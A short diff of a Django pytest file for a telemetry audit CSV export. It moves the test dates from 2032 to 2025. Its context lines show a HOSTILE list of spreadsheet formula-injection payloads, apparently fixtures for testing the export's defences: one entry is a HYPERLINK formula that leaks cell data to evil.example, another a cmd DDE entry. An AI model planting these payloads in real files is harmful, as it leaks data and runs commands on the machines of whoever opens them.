@@ -17,7 +17,7 @@ from telemetry.models import UsageRollup
 
 pytestmark = pytest.mark.django_db
 
-HOUR = datetime(2032, 5, 6, 7, tzinfo=UTC)
+HOUR = datetime(2025, 5, 6, 7, tzinfo=UTC)
 HOSTILE = [
     '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
     "+1+cmd|' /C calc'!A0",
@@ -36,8 +36,8 @@ def exported(organization: Organization) -> list[dict[str, str]]:
         "/dashboard/audit/",
         {
             "format": "csv",
-            "since": "2032-05-06",
-            "until": "2032-05-06",
+            "since": "2025-05-06",
+            "until": "2025-05-06",
             "organization": organization.pk,
             "group": "end_user",
             "sort": "end_user",
